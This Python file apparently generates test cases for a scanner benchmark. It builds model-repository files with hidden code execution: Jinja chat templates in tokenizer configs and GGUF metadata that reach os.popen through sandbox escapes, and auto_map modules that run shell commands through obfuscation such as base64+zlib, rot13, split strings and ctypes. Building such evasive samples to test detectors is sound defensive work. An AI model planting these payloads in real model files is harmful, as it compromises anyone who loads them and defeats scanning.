"""Class 5: chat templates and auto_map code that reach execution without the usual spelling."""

from __future__ import annotations

import base64
import codecs
import json
import zlib
from pathlib import Path

from bench.fresh_corpus._spec import Spec, put, python, shell

LLAMA_DRAMA = (
    "https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829"  # CVE-2024-34359
)
JINJA_FORMAT = "https://github.com/pallets/jinja/security/advisories/GHSA-cpwx-vrp4-4pq7"  # CVE-2025-27516
TRUST_REMOTE_CODE = "loader study: transformers/dynamic_module_utils.py:get_class_in_module"

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _popen(m: str) -> str:
    return f"popen('{shell(m)}').read()"


def _tokenizer_config(f: Path, template: object, **extra: object) -> Path:
    config = {
        "bos_token": "<s>",
        "eos_token": "</s>",
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": template,
        **extra,
    }
    return put(f, "tokenizer_config.json", json.dumps(config, indent=2).encode())


def tpl_multiplied_subscript(f: Path, m: str) -> Path:
    body = "{% set u = '_' * 2 %}" + CHATML + "{{ lipsum[u ~ 'globals' ~ u]['os']." + _popen(m) + " }}"
    return put(f, "chat_template.jinja", body.encode())


def tpl_escaped_json_key(f: Path, m: str) -> Path:
    template = CHATML + "{{ (cycler.__init__|attr('__globals__'))['os']." + _popen(m) + " }}"
    text = json.dumps({"bos_token": "<s>", "chat_template": template}, indent=2)
    text = text.replace("_", "\\u005f")  # JSON escapes: the bytes never spell chat_template or __globals__
    return put(f, "tokenizer_config.json", (" " * 4096 + "\n" + text).encode())


def tpl_gguf_replace(f: Path, m: str) -> Path:
    import gguf

    template = (
        CHATML + "{% set g = 'XXglobalsXX'|replace('X', '_') %}{% set i = 'XXinitXX'|replace('X', '_') %}"
        "{{ ((joiner|attr(i))|attr(g))['os']." + _popen(m) + " }}"
    )
    path = f / "model.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_string("tokenizer.chat_template", template)
    writer.add_bos_token_id(1)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def tpl_block_set(f: Path, m: str) -> Path:
    template = (
        "{% set g %}{{ '_' * 2 }}globals{{ '_' * 2 }}{% endset %}"
        + CHATML
        + "{{ (namespace|attr('_' * 2 ~ 'init' ~ '_' * 2)|attr(g)).os."
        + _popen(m)
        + " }}"
    )
    return _tokenizer_config(f, template)


def tpl_map_attribute(f: Path, m: str) -> Path:
    template = (
        CHATML + "{% set k = ['glo', 'bals']|join %}{% set g = ('_', '_', k, '_', '_')|join %}"
        "{{ ([lipsum]|map(attribute=g)|first)['os']." + _popen(m) + " }}"
    )
    return _tokenizer_config(f, template)


def tpl_named_lowercase(f: Path, m: str) -> Path:
    escape = (
        CHATML
        + "{{ (lipsum|attr('__GLOBALS__'|lower)).get('__builtins__')['__import__']('os')."
        + _popen(m)
        + " }}"
    )
    return _tokenizer_config(
        f, [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": escape}]
    )


def tpl_processor_chat_template_json(f: Path, m: str) -> Path:
    template = (
        CHATML + "{{ (lipsum|attr(('%s%sglobals%s%s' % ('_', '_', '_', '_'))))['os']." + _popen(m) + " }}"
    )
    return put(f, "chat_template.json", json.dumps({"chat_template": template}).encode())


def _remote_repo(f: Path, module: str, source: str, tokenizer: bool = False) -> Path:
    if tokenizer:
        put(
            f,
            "tokenizer_config.json",
            json.dumps(
                {
                    "auto_map": {"AutoTokenizer": [f"{module}.FreshTokenizer", None]},
                    "tokenizer_class": "FreshTokenizer",
                }
            ).encode(),
        )
    else:
        put(
            f,
            "config.json",
            json.dumps(
                {
                    "model_type": "fresh",
                    "architectures": ["FreshModel"],
                    "auto_map": {"AutoConfig": f"{module}.FreshConfig", "AutoModel": f"{module}.FreshModel"},
                }
            ).encode(),
        )
    classes = "\n\nclass FreshConfig:\n    model_type = 'fresh'\n\n\nclass FreshModel:\n    pass\n\n\nclass FreshTokenizer:\n    pass\n"
    return put(f, f"{module}.py", (source + classes).encode())


def code_map_vars(f: Path, m: str) -> Path:
    return _remote_repo(
        f, "modeling_fresh", f"import builtins as _b\n\nlist(map(vars(_b)['ex' + 'ec'], [{python(m)!r}]))\n"
    )


def code_dict_getattr(f: Path, m: str) -> Path:
    src = f"_ops = {{'load': __import__}}\ngetattr(_ops['load']('o' + 's'), ''.join(['sys', 'tem']))({shell(m)!r})\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_import_alias(f: Path, m: str) -> Path:
    src = f"from importlib import import_module as _backend\n\n_backend('sub' + 'process').run(['touch', {m!r}])\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_b64_zlib_function(f: Path, m: str) -> Path:
    blob = base64.b64encode(zlib.compress(python(m).encode())).decode()
    src = (
        "import base64, types, zlib\n\n"
        f"types.FunctionType(compile(zlib.decompress(base64.b64decode({blob!r})), 'cfg', 'exec'), globals())()\n"
    )
    return _remote_repo(f, "modeling_fresh", src)


def code_sys_modules(f: Path, m: str) -> Path:
    src = f"import sys\n\nsys.modules['po' + 'six'].__dict__['sys' + 'tem']({shell(m)!r})\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_builtins_dict(f: Path, m: str) -> Path:
    expression = f"__import__('os').system({shell(m)!r})"
    src = f"_env = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\n_env['ev' + 'al']({expression!r})\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_subclasses_walk(f: Path, m: str) -> Path:
    src = (
        "_k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        f"_k.__init__.__globals__['sys' + 'tem']({shell(m)!r})\n"
    )
    return _remote_repo(f, "modeling_fresh", src)


def code_atexit_deferred(f: Path, m: str) -> Path:
    src = f"import atexit\nimport os as _o\n\natexit.register(getattr(_o, 'sys' + 'tem'), {shell(m)!r})\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_ctypes_libc(f: Path, m: str) -> Path:
    src = f"import ctypes\n\nctypes.CDLL(None).system({shell(m).encode()!r})\n"
    return _remote_repo(f, "modeling_fresh", src)


def code_tokenizer_rot13(f: Path, m: str) -> Path:
    hidden = codecs.encode(python(m), "rot13")
    src = (
        f"import codecs\n\ngetattr(__import__('builtins'), 'ex' + 'ec')(codecs.decode({hidden!r}, 'rot13'))\n"
    )
    return _remote_repo(f, "tokenization_fresh", src, tokenizer=True)


SPECS: list[Spec] = [
    Spec(
        "tpl-multiplied-subscript",
        5,
        "chat_template.jinja: subscript with a key built from '_' * 2 (no dunder literal)",
        LLAMA_DRAMA,
        "jinja-file",
        tpl_multiplied_subscript,
    ),
    Spec(
        "tpl-escaped-json-key",
        5,
        "tokenizer_config.json after 4 KiB of whitespace, every '_' as \\u005f (key and template)",
        LLAMA_DRAMA,
        "jinja-config",
        tpl_escaped_json_key,
    ),
    Spec(
        "tpl-gguf-replace",
        5,
        "GGUF tokenizer.chat_template with names built by |replace('X', '_')",
        LLAMA_DRAMA,
        "jinja-gguf",
        tpl_gguf_replace,
    ),
    Spec(
        "tpl-block-set",
        5,
        "{% set %}...{% endset %} block capture builds the attribute name",
        LLAMA_DRAMA,
        "jinja-config",
        tpl_block_set,
    ),
    Spec(
        "tpl-map-attribute",
        5,
        "|map(attribute=name) with a joined name reads the function globals",
        JINJA_FORMAT,
        "jinja-config",
        tpl_map_attribute,
    ),
    Spec(
        "tpl-named-lowercase",
        5,
        "second named template (tool_use) with an upper-case name lowered by |lower",
        LLAMA_DRAMA,
        "jinja-config",
        tpl_named_lowercase,
    ),
    Spec(
        "tpl-processor-percent-format",
        5,
        "chat_template.json with a name built by Python %-formatting in Jinja",
        JINJA_FORMAT,
        "jinja-json",
        tpl_processor_chat_template_json,
    ),
    Spec(
        "code-map-vars",
        5,
        "auto_map module: list(map(vars(builtins)['ex'+'ec'], [src]))",
        TRUST_REMOTE_CODE,
        "python-module",
        code_map_vars,
    ),
    Spec(
        "code-dict-getattr",
        5,
        "auto_map module: __import__ kept in a dict, getattr with a joined name",
        TRUST_REMOTE_CODE,
        "python-module",
        code_dict_getattr,
    ),
    Spec(
        "code-import-alias",
        5,
        "auto_map module: import_module aliased as _backend('sub'+'process')",
        TRUST_REMOTE_CODE,
        "python-module",
        code_import_alias,
    ),
    Spec(
        "code-b64-zlib-function",
        5,
        "auto_map module: base64+zlib source compiled and run as types.FunctionType",
        TRUST_REMOTE_CODE,
        "python-module",
        code_b64_zlib_function,
    ),
    Spec(
        "code-sys-modules",
        5,
        "auto_map module: sys.modules['po'+'six'].__dict__['sys'+'tem']",
        TRUST_REMOTE_CODE,
        "python-module",
        code_sys_modules,
    ),
    Spec(
        "code-builtins-dict",
        5,
        "auto_map module: __builtins__ mapping lookup of 'ev'+'al'",
        TRUST_REMOTE_CODE,
        "python-module",
        code_builtins_dict,
    ),
    Spec(
        "code-subclasses-walk",
        5,
        "auto_map module: object.__subclasses__() walk to os._wrap_close globals",
        TRUST_REMOTE_CODE,
        "python-module",
        code_subclasses_walk,
    ),
    Spec(
        "code-atexit-deferred",
        5,
        "auto_map module: atexit.register defers the call to interpreter exit",
        TRUST_REMOTE_CODE,
        "python-module",
        code_atexit_deferred,
    ),
    Spec(
        "code-ctypes-libc",
        5,
        "auto_map module: ctypes.CDLL(None).system calls libc directly",
        TRUST_REMOTE_CODE,
        "python-module",
        code_ctypes_libc,
    ),
    Spec(
        "code-tokenizer-rot13",
        5,
        "tokenizer auto_map module: rot13-encoded source run via getattr(builtins, 'ex'+'ec')",
        TRUST_REMOTE_CODE,
        "python-module",
        code_tokenizer_rot13,
    ),
]
